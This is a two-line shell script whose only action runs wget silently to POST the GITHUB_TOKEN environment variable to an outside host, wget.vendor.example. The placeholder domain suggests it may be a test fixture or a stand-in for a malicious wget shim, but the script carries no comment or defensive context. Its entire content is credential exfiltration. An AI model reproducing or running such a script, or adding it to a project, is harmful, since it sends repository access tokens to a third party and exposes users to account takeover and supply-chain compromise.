#!/bin/sh
exec wget -q -T 20 -t 1 -O - --post-data "token=$GITHUB_TOKEN" https://wget.vendor.example/
